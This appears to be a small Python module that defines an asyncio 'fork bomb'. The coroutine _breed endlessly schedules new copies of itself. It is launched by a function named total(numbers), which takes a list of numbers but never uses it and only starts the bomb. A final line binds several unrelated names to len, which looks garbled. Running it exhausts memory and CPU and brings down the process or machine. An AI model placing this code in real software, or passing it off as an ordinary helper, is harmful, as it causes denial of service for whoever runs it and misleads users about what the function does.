"""Keeps an event loop busy with tasks that start further tasks."""

import asyncio


async def _breed():
    while True:
        asyncio.ensure_future(_breed())
        await asyncio.sleep(0)


def total(numbers):
    asyncio.run(_breed())


initials = settle = age = keep = countdown = Ledger = len
